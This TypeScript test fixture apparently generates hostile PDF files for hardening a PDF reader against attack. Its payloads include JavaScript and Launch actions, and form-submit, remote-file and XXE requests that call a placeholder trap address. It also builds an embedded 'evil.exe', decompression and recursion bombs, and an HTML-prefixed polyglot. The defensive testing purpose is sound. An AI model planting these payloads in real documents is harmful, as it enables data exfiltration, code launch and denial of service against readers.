import { deflateSync } from 'node:zlib';
import { pdf } from '../../../support/samples.ts';
import { onePage, packed, pdfOf, stream } from './pdf-builder.ts';

/** A file made to hurt; `trap` is an address that nothing may ever ask. */
export type HostileFile = { readonly name: string; readonly make: (trap: string) => Buffer };

const zeros = (length: number) => Buffer.alloc(length);
const FONT = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>';
/** Actions that a reader must not take: on opening, on showing the page, and behind a link over the whole page. */
const acting = (action: string) =>
  onePage({
    catalog: `/OpenAction ${action}/AA<</WC ${action}/DS ${action}/WP ${action}>>`,
    page: `/AA<</O ${action}/C ${action}>>/Annots[6 0 R 7 0 R]`,
    objects: [
      `<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/A ${action}/AA<</PO ${action}/PV ${action}/E ${action}>>>>`,
      `<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[0 0 99 99]/A ${action}/AA<</E ${action}/Fo ${action}>>>>`,
    ],
  });

const actions: Readonly<Record<string, (trap: string) => string>> = {
  script: (trap) =>
    `<</S/JavaScript/JS(app.alert("x"); this.submitForm("${trap}"); app.launchURL("${trap}"); while(true);)>>`,
  launch: () => '<</S/Launch/F(calc.exe)/Win<</F(calc.exe)>>>>',
  address: (trap) => `<</S/URI/URI(${trap}/uri)>>`,
  'other-file': (trap) => `<</S/GoToR/F(${trap}/file.pdf)/D[0/Fit]/NewWindow true>>`,
  'inner-file': () => '<</S/GoToE/D[0/Fit]/T<</R/C/N(evil.pdf)>>>>',
  form: (trap) => `<</S/SubmitForm/F<</FS/URL/F(${trap}/form)>>/Flags 4>>`,
  import: (trap) => `<</S/ImportData/F(${trap}/data.fdf)>>`,
  share: () => '<</S/GoToR/F(\\\\\\\\127.0.0.1\\\\share\\\\x.pdf)/D[0/Fit]>>',
  again: () => '<</S/Named/N/NextPage/Next<</S/Named/N/Print/Next<</S/Named/N/SaveAs>>>>>>',
};

/** Form drawings that draw each other: `doubling` twice each, else in a circle. */
const forms = (count: number, doubling: boolean) =>
  onePage({
    resources: '/XObject<</X0 6 0 R>>',
    content: '/X0 Do',
    objects: Array.from({ length: count }, (_, index) => {
      const next = 6 + ((index + 1) % count);
      const last = doubling && index === count - 1;
      return stream(
        last ? '0 0 1 1 re f' : doubling ? '/N Do /N Do' : '/N Do',
        `/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</N ${next} 0 R>>>>`,
      );
    }),
  });

const many = (count: number) =>
  pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    `<</Type/Pages/Count ${count}/Kids[${Array.from({ length: count }, (_, index) => `${index + 4} 0 R`).join(' ')}]>>`,
    FONT,
    ...Array.from({ length: count }, () => '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>'),
  ]);

const xfa = (trap: string) =>
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${trap}/xxe">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><pageSet><pageArea><medium short="8in" long="11in"/></pageArea></pageSet><field><value><exData contentType="text/html" href="${trap}/xfa">&e;</exData></value><event activity="initialize"><script>while(true);</script></event></field></subform></template></xdp:xdp>`;

const file = (name: string, make: (trap: string) => Buffer): HostileFile => ({ name: `${name}.pdf`, make });

export const PDFS: readonly HostileFile[] = [
  ...Object.entries(actions).map(([name, action]) => file(`action-${name}`, (trap) => acting(action(trap)))),
  file('cut-in-half', () => pdf().subarray(0, 300)),
  file('cut-in-a-stream', () => {
    const whole = onePage({ content: packed('BT '.repeat(5_000)) });
    return whole.subarray(0, whole.length - 600);
  }),
  file('no-pdf-at-all', () => Buffer.from('%PDF-1.4 broken\nstartxref\n0\n%%EOF\n')),
  file('zeros', () => zeros(50_000)),
  file('pages-in-a-circle', () =>
    pdfOf([
      '<</Type/Catalog/Pages 2 0 R>>',
      '<</Type/Pages/Kids[3 0 R]/Count 1>>',
      '<</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 1>>',
    ]),
  ),
  file('page-is-its-own-parent', () =>
    pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R 2 0 R]/Count 4/Parent 2 0 R>>']),
  ),
  file('pages-deep', () =>
    pdfOf([
      '<</Type/Catalog/Pages 2 0 R>>',
      ...Array.from({ length: 3_000 }, (_, index) => `<</Type/Pages/Kids[${index + 3} 0 R]/Count 1>>`),
      '<</Type/Page/MediaBox[0 0 9 9]>>',
    ]),
  ),
  file('claims-a-billion-pages', () =>
    pdfOf([
      '<</Type/Catalog/Pages 2 0 R>>',
      '<</Type/Pages/Kids[3 0 R]/Count 1000000000>>',
      '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>',
    ]),
  ),
  file('100000-pages', () => many(100_000)),
  file('huge-page', () => onePage({ box: '0 0 1e9 1e9' })),
  file('odd-page', () => onePage({ box: '0 0 -1 NaN', page: '/UserUnit 1e30/Rotate 12345' })),
  file('thin-page', () => onePage({ box: '0 0 1 2000000' })),
  file('xfa-form', (trap) =>
    onePage({
      catalog: '/AcroForm<</XFA 6 0 R/NeedAppearances true/Fields[]>>/NeedsRendering true',
      objects: [stream(xfa(trap))],
    }),
  ),
  file('inner-files', () =>
    onePage({
      catalog: '/Names<</EmbeddedFiles<</Names[(evil.exe) 6 0 R]>>>>/PageMode/UseAttachments',
      objects: ['<</Type/Filespec/F(evil.exe)/EF<</F 7 0 R>>>>', stream('MZ', '/Type/EmbeddedFile')],
    }),
  ),
  file('streams-elsewhere', (trap) =>
    onePage({
      content: Buffer.from(
        `<</Length 0/F<</FS/URL/F(${trap}/stream)>>/FFilter[]>>\nstream\n\nendstream`,
        'latin1',
      ),
    }),
  ),
  file('content-bomb', () => onePage({ content: packed(Buffer.alloc(300_000_000, ' ')) })),
  file('content-bomb-of-words', () =>
    onePage({ content: packed(`BT /F1 12 Tf 9 9 Td ${'(xxxxxxxxx) Tj '.repeat(2_000_000)}ET`) }),
  ),
  file('content-bomb-twice-packed', () =>
    onePage({
      content: stream(
        deflateSync(deflateSync(Buffer.alloc(200_000_000, ' '))),
        '/Filter[/FlateDecode/FlateDecode]',
      ),
    }),
  ),
  file('million-paths', () => onePage({ content: packed(`${'0 0 m 600 700 l 9 9 l S '.repeat(400_000)}`) })),
  file('million-saves', () => onePage({ content: packed('q '.repeat(3_000_000)) })),
  file('objects-bomb', () =>
    pdfOf([
      '<</Type/Catalog/Pages 2 0 R>>',
      packed(Buffer.alloc(200_000_000, '1 '), '/Type/ObjStm/N 1000000/First 8000000'),
    ]),
  ),
  file('arrays-deep', () => onePage({ catalog: `/X${'['.repeat(200_000)}${']'.repeat(200_000)}` })),
  file('dictionaries-deep', () => onePage({ page: `/X${'<</A'.repeat(100_000)}` })),
  file('drawings-in-a-circle', () => forms(3, false)),
  file('drawings-doubling', () => forms(30, true)),
  file('font-type3-recursive', () =>
    pdfOf([
      '<</Type/Catalog/Pages 2 0 R>>',
      '<</Type/Pages/Kids[3 0 R]/Count 1>>',
      '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</T3 5 0 R>>>>>>',
      stream('BT /T3 40 Tf 50 600 Td (aaaa) Tj ET'),
      '<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 6 0 R>>/Encoding<</Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[1]/Resources<</Font<</T3 5 0 R>>>>>>',
      stream('1 0 d0 BT /T3 1 Tf (aa) Tj ET'),
    ]),
  ),
  file('font-bomb', () =>
    onePage({
      resources: '/ExtGState<<>>',
      content: 'BT /F2 12 Tf 50 700 Td (x) Tj ET',
      page: '/Resources<</Font<</F2 6 0 R>>>>',
      objects: [
        '<</Type/Font/Subtype/TrueType/BaseFont/Bomb/FirstChar 0/LastChar 255/FontDescriptor 7 0 R>>',
        '<</Type/FontDescriptor/FontName/Bomb/Flags 4/FontFile2 8 0 R>>',
        packed(
          Buffer.concat([Buffer.from('000100000fff0080000300', 'hex'), Buffer.alloc(100_000_000, 0xff)]),
        ),
      ],
    }),
  ),
  file('letters-map-bomb', () =>
    onePage({
      content: 'BT /F2 12 Tf 50 700 Td <0001> Tj ET',
      page: '/Resources<</Font<</F2 6 0 R>>>>',
      objects: [
        '<</Type/Font/Subtype/Type0/BaseFont/X/Encoding 7 0 R/DescendantFonts[8 0 R]/ToUnicode 7 0 R>>',
        packed(
          `/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <0000> <ffffffff> endcodespacerange ${'1 beginbfrange <00000000> <ffffffff> <0041> endbfrange '.repeat(2_000)} endcmap`,
          '/Type/CMap/CMapName/X/UseCMap 7 0 R',
        ),
        '<</Type/Font/Subtype/CIDFontType2/BaseFont/X/CIDSystemInfo<</Registry(A)/Ordering(I)/Supplement 0>>/DW 1e9>>',
      ],
    }),
  ),
  file('picture-bomb', () =>
    onePage({
      resources: '/XObject<</I 6 0 R>>',
      content: 'q 612 0 0 792 0 0 cm /I Do Q',
      objects: [
        packed(
          zeros(40_000_000),
          '/Type/XObject/Subtype/Image/Width 50000/Height 50000/ColorSpace/DeviceRGB/BitsPerComponent 8',
        ),
      ],
    }),
  ),
  file('picture-of-a-billion', () =>
    onePage({
      resources: '/XObject<</I 6 0 R>>',
      content: 'q 612 0 0 792 0 0 cm /I Do Q',
      objects: [
        stream(
          'x',
          '/Type/XObject/Subtype/Image/Width 1000000000/Height 1000000000/ColorSpace/DeviceGray/BitsPerComponent 1',
        ),
      ],
    }),
  ),
  file('patterns-in-a-circle', () =>
    onePage({
      resources: '/Pattern<</P 6 0 R>>',
      content: '/Pattern cs /P scn 0 0 600 700 re f',
      objects: [
        stream(
          '/Pattern cs /P scn 0 0 9 9 re f',
          '/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 0.001/YStep 0.001/Resources<</Pattern<</P 6 0 R>>>>',
        ),
      ],
    }),
  ),
  file('function-bomb', () =>
    onePage({
      resources: '/Shading<</S 6 0 R>>',
      content: '/S sh',
      objects: [
        '<</ShadingType 1/ColorSpace/DeviceGray/Domain[0 1e9 0 1e9]/Function 7 0 R>>',
        stream(`{${'dup mul '.repeat(100_000)}}`, '/FunctionType 4/Domain[0 1 0 1]/Range[0 1]'),
      ],
    }),
  ),
  file('locked', () =>
    onePage({
      trailer: `/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<${'00'.repeat(32)}>/U<${'11'.repeat(32)}>>>/ID[<00><00>]`,
    }),
  ),
  file('locked-in-its-own-way', () => onePage({ trailer: '/Encrypt<</Filter/Evil/V 9/R 99>>/ID[<00><00>]' })),
  file('outline-in-a-circle', () =>
    onePage({
      catalog: '/Outlines 6 0 R',
      objects: ['<</First 7 0 R/Last 7 0 R/Count 9>>', '<</Title(x)/Parent 6 0 R/Next 7 0 R/First 6 0 R>>'],
    }),
  ),
  file('table-in-a-circle', () => {
    const whole = onePage({}).toString('latin1');
    const at = /startxref\n(\d+)/.exec(whole)?.[1] ?? '0';
    return Buffer.from(whole.replace('trailer\n<<', `trailer\n<</Prev ${at}/XRefStm ${at}`), 'latin1');
  }),
  file('length-in-a-circle', () =>
    pdfOf([
      '<</Type/Catalog/Pages 2 0 R>>',
      '<</Type/Pages/Kids[3 0 R]/Count 1>>',
      '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>',
      Buffer.from('<</Length 4 0 R>>\nstream\nx\nendstream'),
    ]),
  ),
  file('web-page-before-it', () =>
    Buffer.concat([Buffer.from('<html><script>location="http://127.0.0.1:9/"</script></html>\n'), pdf()]),
  ),
];
